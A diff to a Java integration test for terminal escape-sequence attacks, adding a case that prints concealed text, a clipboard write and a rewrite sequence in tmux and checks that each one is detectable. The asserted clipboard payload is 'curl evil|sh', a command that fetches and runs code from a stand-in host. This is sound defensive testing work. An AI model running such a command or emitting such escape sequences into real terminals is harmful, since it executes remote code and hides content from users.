@@ -67,6 +67,19 @@ class TerminalEscapeIT {
         tmux("kill-server");
     }
 
+    /** The checks can fail: the same attacks, printed raw by the shell, trip every one of them in this tmux. */
+    @Test
+    void theChecksSeeAnAttackThatGetsThrough() throws Exception {
+        Path script = Files.writeString(home.resolve("raw.sh"), "echo " + CANARY + "\nprintf '" + HostileText.CONCEAL + "x "
+                + HostileText.CLIPBOARD + HostileText.REWRITE + "\\n'\necho " + DONE + "\nexec sleep 600\n", StandardCharsets.UTF_8);
+        assertThat(tmux("new-session", "-d", "-s", "raw", "-x", "250", "-y", "70", "sh '" + script + "'").exitCode()).isZero();
+        String screen = awaitScreen("raw", text -> text.contains(DONE));
+
+        assertThat(screen).doesNotContain(CANARY);
+        assertThat(capture("raw", true)).contains("\u001b[8m");
+        assertThat(tmux("list-buffers").out()).contains("curl evil|sh");
+    }
+
     @Test
     void theProposalsListShowsTheAttacksAsText() throws Exception {
         String screen = surface("proposals", "'" + BOTTLE + "' proposals; '" + BOTTLE + "' proposals --bottle 'x" + HostileText.CONCEAL
